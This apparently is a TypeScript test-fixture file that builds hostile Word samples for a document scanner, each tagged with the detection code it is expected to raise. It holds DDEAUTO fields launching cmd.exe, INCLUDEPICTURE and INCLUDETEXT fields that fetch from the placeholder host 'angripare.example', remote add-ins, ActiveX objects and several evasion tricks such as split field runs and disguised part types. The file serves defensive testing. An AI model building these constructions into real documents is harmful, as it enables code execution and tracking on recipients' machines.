import { docOf, docxOf, wordNamespace } from "../files.ts";

type Attack = [what: string, fileName: string, data: Buffer, code: string];

export function linking(type: string, target: string, mode = "External"): Buffer {
  const full = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;
  const data = `<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="rId1" Type="${full}" Target="${target}" TargetMode="${mode}"/></Relationships>`;
  return docxOf([{ name: "word/_rels/settings.xml.rels", data }]);
}

const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const code = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
const field = (inside: string) =>
  `<w:p>${mark("begin")}${inside}${mark("separate")}<w:r><w:t>1</w:t></w:r>${mark("end")}</w:p>`;
const inBody = (body: string) => docxOf([], { body });
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const footnotes = (content: string) =>
  docxOf([{ name: "word/footnotes.xml", data: `<w:footnotes xmlns:w="${wordNamespace}">${content}</w:footnotes>` }], {
    types: { "word/footnotes.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml" },
  });

const pictureField = field(code('INCLUDEPICTURE "https://angripare.example/a.png"'));
const relationBase = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/** A document with a part that a relationship, but no content type, makes a text of Word's. */
const disguised = (type: string, name: string, content: string, target = name) =>
  docxOf([
    {
      name: "word/_rels/document.xml.rels",
      data: `<Relationships><Relationship Id="a" Type="${relationBase}/${type}" Target="${target}"/></Relationships>`,
    },
    { name: `word/${name}`, data: `<w:x xmlns:w="${wordNamespace}">${content}</w:x>` },
  ]);
const addIn = (store: string) =>
  docxOf(
    [
      {
        name: "word/webextensions/webextension1.xml",
        data: `<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11"><we:reference id="a" store="\\\\angripare.example\\a" storeType="${store}"/></we:webextension>`,
      },
    ],
    { types: { "word/webextensions/webextension1.xml": "application/vnd.ms-office.webextension+xml" } },
  );

export const activeWord: Attack[] = [
  ...(
    [
      ["83 a field that starts a program", inBody(field(code(dde)))],
      ["84 a picture that a field fetches", inBody(field(code('INCLUDEPICTURE "https://angripare.example/a.png"')))],
      [
        "85 a text that a field fetches",
        inBody(`<w:fldSimple w:instr=' INCLUDETEXT "https://angripare.example/a" '/>`),
      ],
      ["86 a field written in several runs", inBody(field(code("DDE") + code("AUTO c:")))],
      ["87 a field in a footnote", footnotes(field(code(dde)))],
      ["88 a field whose name is another's result", inBody(field(`${field(code("QUOTE 68 68 69"))}${code(" c:")}`))],
      ["89 a field beside deleted text", inBody(field(`<w:r><w:delInstrText>REF </w:delInstrText></w:r>${code(dde)}`))],
      ["90 a field that was deleted", inBody(field(`<w:r><w:delInstrText>${dde}</w:delInstrText></w:r>`))],
      ["91 a field's code as text", inBody(field(`<w:r><w:t>${dde}</w:t></w:r>`))],
      [
        "92 a link in a field to a program",
        inBody(field(code('HYPERLINK \\t "_blank" "file://angripare.example/x.exe"'))),
      ],
      ["93 a database that a letter asks", inBody("<w:mailMerge/>")],
      ["94 a film that is a web page", inBody('<w:webVideoPr w:embeddedHtml="x"/>')],
      [
        "95 a drawing's picture on another machine",
        inBody(
          '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://angripare.example/a"/></w:pict>',
        ),
      ],
      ["106 a header without a header's content type", disguised("header", "hdr9.xml", field(code(dde)))],
      ["107 a footer that calls itself a picture", disguised("footer", "media/a.png", pictureField)],
      ["108 settings among a program's own data", disguised("settings", "item1.xml", "<w:mailMerge/>")],
      ["109 a header that calls itself a theme", disguised("header", "theme1.xml", pictureField, "/word/theme1.xml")],
      ["110 a header whose name is written in two ways", disguised("header", "a.xml", "", "%61.xml")],
      ["111 a header that calls itself a list of relationships", disguised("header", "b.rels", field(code(dde)))],
      ["112 an add-in on another machine", addIn("FileSystem")],
      ["113 an add-in from a site", addIn("SPCatalog")],
      ["96 a part that no document has", docxOf([{ name: "word/program.exe", data: "MZ" }])],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.docx", data, "FILE_ACTIVE"]),
  [
    "97 a field's code in one of two branches",
    "brev.docx",
    inBody(`<w:p>${mark("begin")}<mc:Choice>${code(dde)}</mc:Choice>${mark("end")}</w:p>`),
    "FILE_CONTENT",
  ],
  [
    "98 a field that another namespace disguises",
    "brev.docx",
    inBody(field(`<mc:instrText>REF </mc:instrText>${code(dde)}`)),
    "FILE_CONTENT",
  ],
  ...(
    [
      ["99 an equation's program in an old document", docOf(["ObjectPool/_1/Equation Native"])],
      ["100 an ActiveX control in an old document", docOf(["ObjectPool/_1/\u0003OCXDATA"])],
      ["101 a control's data at the root of an old document", docOf(["\u0003OCXNAME"])],
      ["102 a field that starts a program in an old document", docOf([], `Hej \u0013 ${dde} \u0014x\u0015`)],
      [
        "103 a picture that a field of an old document fetches",
        docOf([], '\u0013INCLUDEPICTURE "https://angripare.example/a"\u0015'),
      ],
    ] as [string, Buffer][]
  ).map(([what, data]): Attack => [what, "brev.doc", data, "FILE_ACTIVE"]),
];
